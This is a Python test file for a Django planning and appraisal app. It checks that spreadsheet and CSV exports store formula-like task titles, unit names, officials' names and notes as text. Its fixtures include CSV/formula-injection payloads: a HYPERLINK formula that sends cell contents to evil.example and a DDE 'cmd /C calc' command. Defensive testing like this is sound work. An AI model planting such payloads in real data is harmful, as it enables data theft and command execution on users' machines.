"""Exports never turn user text into a formula (SPEC §1): a task titled `=HYPERLINK(...)`, a unit, a plan,
an official or an appraisal note named like a formula, comes out of every downloaded workbook as the
text that was typed, stored as text. Checked on the downloads users get: the plan's progress export and
its import template (pages), and the score sheets (API)."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from org.models import UnitKind
from plans import services as plan_services
from scoring.models import SurveyResult
from scoring.services import appraisal_set, scores_recompute
from tasks import services as task_services
from tests.factories import bound_plan, criteria_set_from, unit, user
from tests.scoring.sets import SET_2026

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://x","Xem")'
UNIT_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Phường Đồng Tâm")'
LEAD_NAME = "=cmd|' /C calc'!A0"
NOTE = "+SUM(1,2)"
NUMBER = "=1+2/KH"


def formula_cells(content: bytes) -> list[str]:
    """Every formula in the workbook's sheet parts, as Excel would see them (the raw XML, not openpyxl's
    reading of it)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return [f for n in parts for f in re.findall(r"<f[ >].*?</f>", archive.read(n).decode())]


def cells(content: bytes):
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_text(content: bytes, *texts: str) -> None:
    """Each text is in some cell, exactly as typed and stored as a string; no cell is a formula."""
    assert formula_cells(content) == []
    all_cells = cells(content)
    assert [c.coordinate for c in all_cells if c.data_type == "f"] == []
    for text in texts:
        holding = [c for c in all_cells if isinstance(c.value, str) and text in c.value]
        assert holding, f"{text!r} is in no cell"
        assert all(c.data_type == "s" for c in holding)


@pytest.fixture
def hostile(world):
    """A commune named like a formula, an official of it named like one, and a task titled like one."""
    world.bad_unit = unit("X03", parent=world.city, name=UNIT_NAME)
    world.bad_official = user("hostile", memberships=[(world.bad_unit, "official")])
    world.bad_official.full_name = LEAD_NAME
    world.bad_official.save(update_fields=["full_name"])
    task = task_services.task_create(
        actor=world.city_leader,
        plan=world.plan,
        title=TITLE,
        assignee_unit=world.bad_unit,
        due_date=dt.date(2026, 12, 15),
        lead=world.bad_official,
    )
    task_services.task_assign(actor=world.city_leader, task=task)
    return world


def test_the_plan_export_keeps_a_formula_like_title_as_text(hostile, web):
    r = web.as_(hostile.city_leader).get(f"/plans/{hostile.plan.pk}/export.xlsx")
    assert r.status_code == 200

    assert_text(r.content, TITLE, UNIT_NAME, LEAD_NAME)
    sheet = load_workbook(io.BytesIO(r.content)).worksheets[0]
    title = next(c for c in sheet["D"] if c.value == TITLE)  # the "Tên nhiệm vụ" column
    assert title.data_type == "s" and title.value == TITLE


def test_the_plan_export_keeps_a_formula_like_plan_number_as_text(world, web):
    plan = plan_services.plan_create(
        actor=world.city_leader, owner_unit=world.city, number=NUMBER, title=TITLE, year=2026
    )
    r = web.as_(world.city_leader).get(f"/plans/{plan.pk}/export.xlsx")
    assert r.status_code == 200
    assert_text(r.content, f"{NUMBER} — {TITLE}")


def test_the_import_template_keeps_unit_names_and_the_plan_as_text(hostile, web):
    r = web.as_(hostile.city_leader).get(f"/plans/{hostile.plan.pk}/import/template.xlsx")
    assert r.status_code == 200
    assert_text(r.content, UNIT_NAME)


def test_the_score_sheets_keep_unit_names_and_notes_as_text(world, api):
    bad_unit = unit("X03", kind=UnitKind.COMMUNE, parent=world.city, name=UNIT_NAME)
    cs = criteria_set_from(SET_2026)
    bound_plan(world, cs, number="10/KH-UBND")
    appraiser = user("thamdinh", memberships=[(world.province, "appraiser")])
    appraisal_set(actor=appraiser, criteria_set=cs, unit=bad_unit, code="1.5", points=2, note=NOTE)
    scores_recompute(criteria_set=cs)

    r = api.as_(world.city_leader).get(f"/api/criteria-sets/{cs.pk}/export.xlsx", {"parent": world.city.pk})
    assert r.status_code == 200

    assert_text(r.content, UNIT_NAME, NOTE)
    wb = load_workbook(io.BytesIO(r.content))
    name = next(c for c in wb.worksheets[0]["C"] if c.value == UNIT_NAME)  # "Tên đơn vị" in the ranking
    assert name.data_type == "s"
    assert wb["X03"]["A1"].value == f"{UNIT_NAME} (X03)" and wb["X03"]["A1"].data_type == "s"


def test_the_survey_template_csv_opens_formula_like_codes_as_text_and_reads_them_back(world, web, api):
    """The survey template is a CSV: a spreadsheet program runs a field starting with =, +, - or @, so such
    a unit code gets a leading apostrophe; the filled-in template imports back onto the same unit."""
    bad = unit("=1+1", parent=world.city, name="Xã mới")
    unit("X04", parent=world.city, name="@Xã lạ")
    cs = criteria_set_from(SET_2026)
    appraiser = user("thamdinh", memberships=[(world.province, "appraiser")])
    r = web.as_(appraiser).get(f"/appraisal/{cs.pk}/survey/template.csv")
    assert r.status_code == 200
    lines = r.content.decode("utf-8-sig").splitlines()
    assert "'=1+1,3.1,,Xã mới" in lines  # the unit's name last, for the reader
    assert "X04,3.1,,'@Xã lạ" in lines  # a name is user text too
    assert not [
        field for line in lines for field in line.split(",") if field.startswith(("=", "+", "-", "@"))
    ]

    filled = "\n".join([lines[0], "'=1+1,3.1,12,Xã mới", "X01,3.1,9"]).encode()
    upload = SimpleUploadedFile("dieu-tra.csv", filled)
    r = api.as_(appraiser).post(f"/api/criteria-sets/{cs.pk}/survey/", {"file": upload}, format="multipart")
    assert r.status_code == 200, r.json()
    assert set(SurveyResult.objects.values_list("unit__code", "points")) == {("=1+1", 12), ("X01", 9)}
    assert SurveyResult.objects.get(unit=bad).points == 12


def test_the_task_list_export_keeps_titles_units_and_leads_as_text(hostile, web):
    """ "Xuất Excel" of the task list writes the same user text as text."""
    r = web.as_(hostile.city_leader).get("/tasks/export.xlsx", {"tab": "all", "year": "all"})
    assert r.status_code == 200
    assert_text(r.content, TITLE, UNIT_NAME, LEAD_NAME)
